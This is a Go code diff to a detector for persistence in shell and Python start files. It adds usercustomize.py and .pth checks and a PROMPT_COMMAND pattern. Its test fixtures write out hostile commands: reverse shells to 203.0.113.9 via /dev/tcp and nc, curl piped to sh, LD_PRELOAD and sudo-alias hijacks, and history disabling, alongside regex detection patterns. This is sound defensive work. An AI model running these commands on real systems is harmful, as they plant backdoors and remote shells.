@@ -27,17 +27,26 @@ var persistRC = Detector{
 			return rcLevel(w)
 		})(ev, v)
 	},
-	Fire: append(lines(coi.High, "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' >> ~/.bashrc", "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.profile", "echo 'curl -s http://203.0.113.9/x | sh' | tee -a ~/.zshrc", "echo 'set +o history' >> ~/.bashrc", "echo 'nohup /tmp/x &' >> /etc/profile.d/x.sh", "echo \"alias sudo='/tmp/s'\" >> ~/.bashrc", "python3 -c \"open('/root/.bashrc','a').write('nc 203.0.113.9 1 -e sh')\""),
+	Fire: append(lines(coi.High, "echo 'import os;os.system(\"/tmp/x\")' > $(python3 -m site --user-site)/usercustomize.py", "echo 'import subprocess;subprocess.Popen([\"/tmp/x\"])' | tee /usr/lib/python3/dist-packages/x.pth", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' >> ~/.bashrc", "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.profile", "echo 'curl -s http://203.0.113.9/x | sh' | tee -a ~/.zshrc", "echo 'set +o history' >> ~/.bashrc", "echo 'nohup /tmp/x &' >> /etc/profile.d/x.sh", "echo \"alias sudo='/tmp/s'\" >> ~/.bashrc", "python3 -c \"open('/root/.bashrc','a').write('nc 203.0.113.9 1 -e sh')\""),
 		lines(coi.Warning, "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc")...),
 	Quiet: lines("", "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", "echo '. ~/.nvm/nvm.sh' >> ~/.profile", "echo 'source <(kubectl completion bash)' >> ~/.bashrc", "echo 'alias k=kubectl' >> ~/.zshrc", "source ~/.bashrc", "cat ~/.profile", "git config --global user.name x", "trap 'rm -f $T' EXIT", "echo 'export JAVA_HOME=/usr/lib/jvm/x' | sudo tee /etc/profile.d/java.sh", "echo 'FOO=bar' | sudo tee -a /etc/environment", "echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc", "trap cleanup EXIT INT"),
 }
 
 var (
-	rcHot     = regexp.MustCompile(`(?i)/dev/(?:tcp|udp)/|\bnc(?:at)?\s|\bsocat\b|\bcurl\b.*\|\s*(?:ba|z)?sh|\bwget\b.*\|\s*(?:ba|z)?sh|LD_PRELOAD|HISTFILE=|HISTSIZE=0|HISTFILESIZE=0|unset HIST|history -c|set \+o history|base64\s+(?:-d|--decode)|python[0-9.]*\s+-c|perl\s+-e|/dev/shm/|nohup\s+/tmp|alias\s+(?:sudo|su|ssh|passwd)=['"]?[^'"]*(?:/tmp|/dev/shm|curl|nc |tee )|mkfifo|\(\)\s*\{[^}]*curl`)
+	rcHot     = regexp.MustCompile(`(?i)PROMPT_COMMAND=.{0,40}(?:curl|wget|/dev/tcp|logger|\bnc\b|tee\b)|/dev/(?:tcp|udp)/|\bnc(?:at)?\s|\bsocat\b|\bcurl\b.*\|\s*(?:ba|z)?sh|\bwget\b.*\|\s*(?:ba|z)?sh|LD_PRELOAD|HISTFILE=|HISTSIZE=0|HISTFILESIZE=0|unset HIST|history -c|set \+o history|base64\s+(?:-d|--decode)|python[0-9.]*\s+-c|perl\s+-e|/dev/shm/|nohup\s+/tmp|alias\s+(?:sudo|su|ssh|passwd)=['"]?[^'"]*(?:/tmp|/dev/shm|curl|nc |tee )|mkfifo|\(\)\s*\{[^}]*curl`)
 	rcComment = regexp.MustCompile(`^\s*#`)
 )
 
+// pythonRuns is a start file of Python that starts another program.
+var pythonRuns = regexp.MustCompile(`os\.(?:system|popen|exec|spawn)|subprocess|pty\.|socket|urlopen|b64decode|exec\(|eval\(|__import__`)
+
 func rcLevel(w written) (coi.Level, string) {
+	if b := base(w.path); strings.HasSuffix(b, "customize.py") || strings.HasSuffix(b, ".pth") {
+		if pythonRuns.MatchString(w.text) {
+			return coi.High, "start file of Python runs something"
+		}
+		return coi.Info, "start file of Python changed"
+	}
 	if rcHot.MatchString(w.text) {
 		return coi.High, "start file of a shell runs something hostile"
 	}
